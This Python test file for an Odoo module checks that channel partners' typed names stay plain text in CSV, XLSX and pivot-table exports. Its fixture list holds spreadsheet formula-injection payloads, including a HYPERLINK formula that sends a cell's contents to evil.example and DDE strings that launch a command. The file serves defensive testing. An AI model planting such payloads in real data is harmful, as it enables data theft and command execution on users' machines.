"""What channel partners typed is text in a spreadsheet, and never a formula."""

import csv
import io
import json

import openpyxl

from odoo import http
from odoo.tests import HttpCase, tagged

from .common import ChannelCase

#: What spreadsheets evaluate, each as a name that somebody typed.
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1,"Lumen")',
    "=cmd|'/c calc'!A0",
    "+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "{=1+1}",
    "\uff1d1+1",
    "external:c:\\evil.xlsx",
    "internal:Sheet1!A1",
    "Lumen, “=1+1”",
)
#: How a cell of a CSV file must not begin.
STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d")


@tagged("post_install", "-at_install")
class TestExport(ChannelCase, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.registrations = cls.env["channel.registration"].create(
            [{"channel_partner_id": cls.netzhaus.id, "customer_name": name} for name in FORMULAS]
        )
        cls.env.flush_all()
        for registration, name in zip(cls.registrations, FORMULAS, strict=True):
            # As it was typed, whatever a form would make of it.
            cls.env.cr.execute(
                "UPDATE channel_registration SET customer_name = %s, refusal_reason = %s"
                " WHERE id = %s",
                (name, name, registration.id),
            )
        cls.env.invalidate_all()
        cls.manager.group_ids |= cls.env.ref("base.group_allow_export")

    def export(self, kind, **params):
        self.authenticate(self.manager.login, self.manager.login)
        data = {
            "model": "channel.registration",
            "fields": [
                {"name": name, "label": name, "type": "char"}
                for name in ("customer_name", "refusal_reason", "display_name")
            ],
            "ids": self.registrations.ids,
            "domain": [],
            "import_compat": False,
            "groupby": [],
            **params,
        }
        answer = self.url_open(
            f"/web/export/{kind}",
            data={"data": json.dumps(data), "csrf_token": http.Request.csrf_token(self)},
        )
        self.assertEqual(answer.status_code, 200)
        return answer

    def cells(self, answer):
        book = openpyxl.load_workbook(io.BytesIO(answer.content))
        return [cell for row in book.active.iter_rows() for cell in row if cell.value is not None]

    def assertTexts(self, cells, *names):
        for cell in cells:
            self.assertNotEqual(cell.data_type, "f", cell.value)
            self.assertFalse(cell.hyperlink, cell.value)
        shown = [str(cell.value) for cell in cells]
        for name in names:
            self.assertTrue(any(name in each for each in shown), name)

    def test_in_a_csv_file(self):
        for compatible in (False, True):
            text = self.export("csv", import_compat=compatible).content.decode()
            rows = list(csv.reader(io.StringIO(text)))
            self.assertEqual(len(rows), len(FORMULAS) + 1)
            for row in rows:
                for cell in row:
                    self.assertFalse(cell.startswith(STARTS), cell)
            self.assertIn(FORMULAS[-1], [row[0] for row in rows])

    def test_in_an_xlsx_file(self):
        self.assertTexts(self.cells(self.export("xlsx")), FORMULAS[0], FORMULAS[-1])

    def test_in_an_xlsx_file_by_groups(self):
        cells = self.cells(self.export("xlsx", groupby=["customer_name"]))
        self.assertTexts(cells, FORMULAS[0], FORMULAS[-1])

    def test_in_a_pivot_table(self):
        self.authenticate(self.manager.login, self.manager.login)
        table = {
            "title": "Registrations",
            "model": "channel.registration",
            "measure_count": 1,
            "origin_count": 1,
            "col_group_headers": [
                [{"title": name, "width": 1, "height": 1} for name in FORMULAS],
            ],
            "measure_headers": [{"title": FORMULAS[0], "is_bold": False}],
            "origin_headers": [],
            "rows": [{"title": FORMULAS[0], "indent": 0, "values": [{"value": 1}]}],
        }
        answer = self.url_open(
            "/web/pivot/export_xlsx",
            data={"csrf_token": http.Request.csrf_token(self)},
            files={"data": ("data", json.dumps(table), "application/json")},
        )
        self.assertEqual(answer.status_code, 200)
        self.assertTexts(self.cells(answer), FORMULAS[0])
